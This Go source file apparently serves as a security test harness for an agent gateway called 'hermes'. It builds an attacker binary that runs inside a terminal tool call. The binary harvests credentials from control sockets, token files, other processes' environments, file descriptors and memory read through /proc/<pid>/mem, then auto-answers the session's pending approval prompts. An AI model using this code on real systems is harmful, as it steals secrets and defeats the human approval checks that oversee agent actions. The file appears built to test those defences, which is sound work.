package escape

import (
	"bufio"
	"bytes"
	"context"
	"flag"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/hermes-gateway/hermes/internal/client"
	"github.com/hermes-gateway/hermes/internal/control"
	"github.com/hermes-gateway/hermes/internal/protocol"
)

// attackArg is os.Args[1] of the test binary run as the attacker, from
// inside a terminal tool call:
//
//	./attack escape-attack approve -api URL -session SID [-socket S] [-token-file F]… [-token-under DIR]… [-scan-internal] [-lock F] [-choice C] [-for D]
//	./attack escape-attack scanmem -prefix P [-pid N | -hermes]
//
// approve collects every credential it can (a native ticket from the
// control socket, legacy tokens from files, pane credentials from other
// processes' environments, descriptors and memory), dials the gateway with
// each and answers every pending prompt of the session. scanmem prints
// every occurrence of prefix (and the token characters after it) in the
// readable memory of a process. Both print what they tried and got.
const attackArg = "escape-attack"

func attackMain(args []string) int {
	if len(args) == 0 {
		fmt.Println("attack: no verb")
		return 2
	}
	switch args[0] {
	case "approve":
		return attackApprove(args[1:])
	case "scanmem":
		return attackScanMem(args[1:])
	}
	fmt.Println("attack: unknown verb", args[0])
	return 2
}

type multi []string

func (m *multi) String() string     { return strings.Join(*m, ",") }
func (m *multi) Set(s string) error { *m = append(*m, s); return nil }

// cred is one way to authenticate an upgrade of /api/ws.
type cred struct {
	what string
	opts client.Options
}

func attackApprove(args []string) int {
	fl := flag.NewFlagSet("approve", flag.ContinueOnError)
	api := fl.String("api", "", "the gateway's API origin")
	sid := fl.String("session", "", "the session whose prompts to answer")
	scanInternal := fl.Bool("scan-internal", false, "look for a pane's internal credential in other processes")
	lock := fl.String("lock", "", "hold an exclusive flock on this file while running; LOCK.held is created once held")
	choice := fl.String("choice", protocol.ChoiceAlways, "the answer to give")
	during := fl.Duration("for", 6*time.Second, "how long to keep looking for a prompt")
	var tokenFiles, tokenUnder, sockets multi
	fl.Var(&sockets, "socket", "a control socket to ask for a ticket")
	fl.Var(&tokenFiles, "token-file", "a legacy token file to read")
	fl.Var(&tokenUnder, "token-under", "a directory to search for dashboard.token")
	if err := fl.Parse(args); err != nil {
		return 2
	}
	if *lock != "" {
		f, err := os.OpenFile(*lock, os.O_CREATE|os.O_RDWR, 0o600)
		if err != nil {
			fmt.Println("lock:", err)
			return 1
		}
		defer f.Close()
		if err := unix.Flock(int(f.Fd()), unix.LOCK_EX); err != nil {
			fmt.Println("flock:", err)
			return 1
		}
		if err := os.WriteFile(*lock+".held", nil, 0o600); err != nil {
			fmt.Println("held:", err)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), *during+10*time.Second)
	defer cancel()
	origin := *api
	var creds []cred
	for _, sock := range sockets {
		creds = append(creds, ticketCreds(ctx, sock, &origin)...)
	}
	for _, f := range tokenFiles {
		creds = append(creds, tokenCred(f)...)
	}
	for _, dir := range tokenUnder {
		_ = filepath.WalkDir(dir, func(p string, e fs.DirEntry, err error) error {
			if err == nil && !e.IsDir() && e.Name() == "dashboard.token" {
				creds = append(creds, tokenCred(p)...)
			}
			return nil
		})
	}
	if *scanInternal {
		creds = append(creds, internalCreds(ctx, origin)...)
	}
	fmt.Printf("attack: %d credentials\n", len(creds))
	answered := 0
	for _, c := range creds {
		answered += useCred(ctx, origin, *sid, *choice, *during, c)
	}
	fmt.Printf("attack: answered %d prompts\n", answered)
	return 0
}

// ticketCreds asks the control socket for a native ticket, as `hermes`
// itself would (identify, then session-ticket).
func ticketCreds(ctx context.Context, socket string, origin *string) []cred {
	var id control.Identity
	if err := control.Call(ctx, socket, control.VerbIdentify, nil, &id); err != nil {
		fmt.Println("attack: identify:", err)
		return nil
	}
	fmt.Println("attack: REACHED the control socket at", socket)
	if *origin == "" {
		*origin = id.APIOrigin
	}
	var out []cred
	for _, purpose := range []string{"interactive", "dashboard-login"} {
		var res control.TicketResult
		err := control.Call(ctx, socket, control.VerbSessionTicket, control.TicketParams{
			ProfileID: id.ProfileID, InstanceID: id.InstanceID, Purpose: purpose}, &res)
		if err != nil {
			fmt.Printf("attack: session-ticket %s: %v\n", purpose, err)
			continue
		}
		fmt.Printf("attack: GOT a %s ticket\n", purpose)
		if purpose == "interactive" {
			out = append(out, cred{"native ticket", client.Options{Ticket: res.Ticket}})
		}
	}
	return out
}

func tokenCred(path string) []cred {
	b, err := os.ReadFile(path)
	if err != nil {
		fmt.Println("attack: token:", err)
		return nil
	}
	tok := strings.TrimSpace(string(b))
	if tok == "" {
		fmt.Println("attack: token file", path, "is empty")
		return nil
	}
	fmt.Println("attack: GOT a legacy token from", path)
	return []cred{{"legacy token", client.Options{Query: url.Values{"token": {tok}}}}}
}

// tokenRE is the shape of the gateway's secrets (32 random bytes,
// base64url without padding).
var tokenRE = regexp.MustCompile(`[A-Za-z0-9_-]{43}`)

// internalCreds looks for a terminal pane's credential: in every visible
// process's environment, in the descriptors of every hermes process, and
// in the memory of every hermes process (each 43-character token-shaped
// string becomes a candidate, tried against the gateway).
func internalCreds(ctx context.Context, origin string) []cred {
	seen := map[string]bool{}
	var candidates []string
	add := func(s string) {
		if !seen[s] && len(candidates) < 3000 {
			seen[s] = true
			candidates = append(candidates, s)
		}
	}
	for _, pid := range pids() {
		dir := "/proc/" + strconv.Itoa(pid)
		if env, err := os.ReadFile(dir + "/environ"); err == nil {
			for kv := range bytes.SplitSeq(env, []byte{0}) {
				if v, ok := bytes.CutPrefix(kv, []byte("HERMES_GATEWAY_INTERNAL=")); ok {
					fmt.Println("attack: GOT HERMES_GATEWAY_INTERNAL from pid", pid)
					add(string(v))
				}
			}
		}
		if !isHermes(pid) {
			continue
		}
		fds, _ := os.ReadDir(dir + "/fd")
		for _, fd := range fds {
			f, err := os.OpenFile(dir+"/fd/"+fd.Name(), os.O_RDONLY|unix.O_NONBLOCK, 0)
			if err != nil {
				continue
			}
			buf := make([]byte, 4096)
			n, _ := f.Read(buf)
			f.Close()
			for _, m := range tokenRE.FindAll(buf[:n], -1) {
				add(string(m))
			}
		}
		scanMemory(pid, func(region []byte) {
			for _, m := range tokenRE.FindAll(region, -1) {
				add(string(m))
			}
		})
	}
	fmt.Printf("attack: %d internal credential candidates\n", len(candidates))
	var out []cred
	for _, c := range candidates {
		dctx, cancel := context.WithTimeout(ctx, 2*time.Second)
		cl, err := client.Dial(dctx, origin, client.Options{Query: url.Values{"internal": {c}}})
		cancel()
		if err == nil {
			_ = cl.Close()
			fmt.Println("attack: GOT a working internal credential")
			out = append(out, cred{"internal credential", client.Options{Query: url.Values{"internal": {c}}}})
			break
		}
	}
	return out
}

// useCred dials with c and answers every prompt of sid until one was
// answered or during has passed.
func useCred(ctx context.Context, origin, sid, choice string, during time.Duration, c cred) int {
	dctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	cl, err := client.Dial(dctx, origin, c.opts)
	cancel()
	if err != nil {
		fmt.Printf("attack: dial with %s: %v\n", c.what, err)
		return 0
	}
	defer cl.Close()
	go func() {
		for range cl.Events() {
		}
	}()
	fmt.Printf("attack: CONNECTED with %s\n", c.what)
	answered := 0
	for deadline := time.Now().Add(during); time.Now().Before(deadline) && answered == 0; {
		snap, err := cl.ResumeSession(ctx, protocol.SessionResumeParams{SessionID: &sid})
		if err != nil {
			fmt.Println("attack: resume:", err)
			return answered
		}
		for _, p := range snap.Prompts {
			res, err := cl.RespondApproval(ctx, protocol.ApprovalRespondParams{SessionID: sid,
				ExecutionGeneration: p.ExecutionGeneration, PromptID: p.PromptID, Choice: choice})
			fmt.Printf("attack: ANSWERED %s with %s: %+v %v\n", p.PromptID, choice, res, err)
			if err == nil {
				answered++
			}
		}
		time.Sleep(50 * time.Millisecond) // the attacker polls; tests never do
	}
	return answered
}

func attackScanMem(args []string) int {
	fl := flag.NewFlagSet("scanmem", flag.ContinueOnError)
	pid := fl.Int("pid", 0, "the process to read")
	hermes := fl.Bool("hermes", false, "read every visible hermes process")
	prefix := fl.String("prefix", "", "what to look for")
	if err := fl.Parse(args); err != nil || *prefix == "" {
		return 2
	}
	re := regexp.MustCompile(regexp.QuoteMeta(*prefix) + `[A-Za-z0-9_-]*`)
	targets := []int{*pid}
	if *hermes {
		targets = nil
		for _, p := range pids() {
			if isHermes(p) {
				targets = append(targets, p)
			}
		}
	}
	found := map[string]bool{}
	for _, p := range targets {
		n := scanMemory(p, func(region []byte) {
			for _, m := range re.FindAll(region, -1) {
				found[string(m)] = true
			}
		})
		fmt.Printf("scanmem: pid %d: %d bytes read\n", p, n)
	}
	for m := range found {
		fmt.Println("scanmem: FOUND", m)
	}
	return 0
}

// scanMemory calls fn with each readable mapping of pid (read through
// /proc/<pid>/mem) and returns how many bytes it read.
func scanMemory(pid int, fn func([]byte)) int {
	dir := "/proc/" + strconv.Itoa(pid)
	maps, err := os.Open(dir + "/maps")
	if err != nil {
		fmt.Printf("scanmem: pid %d maps: %v\n", pid, err)
		return 0
	}
	defer maps.Close()
	mem, err := os.Open(dir + "/mem")
	if err != nil {
		fmt.Printf("scanmem: pid %d mem: %v\n", pid, err)
		return 0
	}
	defer mem.Close()
	total := 0
	sc := bufio.NewScanner(maps)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 2 || f[1][0] != 'r' || (len(f) >= 6 && (f[5] == "[vvar]" || f[5] == "[vsyscall]" || f[5] == "[vvar_vclock]")) {
			continue
		}
		lo, hi, ok := strings.Cut(f[0], "-")
		if !ok {
			continue
		}
		start, err1 := strconv.ParseUint(lo, 16, 64)
		end, err2 := strconv.ParseUint(hi, 16, 64)
		if err1 != nil || err2 != nil || end <= start || end-start > 1<<30 {
			continue
		}
		buf := make([]byte, end-start)
		n, _ := mem.ReadAt(buf, int64(start))
		if n > 0 {
			total += n
			fn(buf[:n])
		}
	}
	return total
}

// pids lists the processes visible in /proc, except this one.
func pids() []int {
	ents, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range ents {
		if n, err := strconv.Atoi(e.Name()); err == nil && n != os.Getpid() {
			out = append(out, n)
		}
	}
	return out
}

// isHermes reports whether pid runs a hermes binary (the daemon, a pane's
// chat), judged by its command line.
func isHermes(pid int) bool {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
	if err != nil {
		return false
	}
	argv0, _, _ := bytes.Cut(b, []byte{0})
	return strings.Contains(filepath.Base(string(argv0)), "hermes")
}
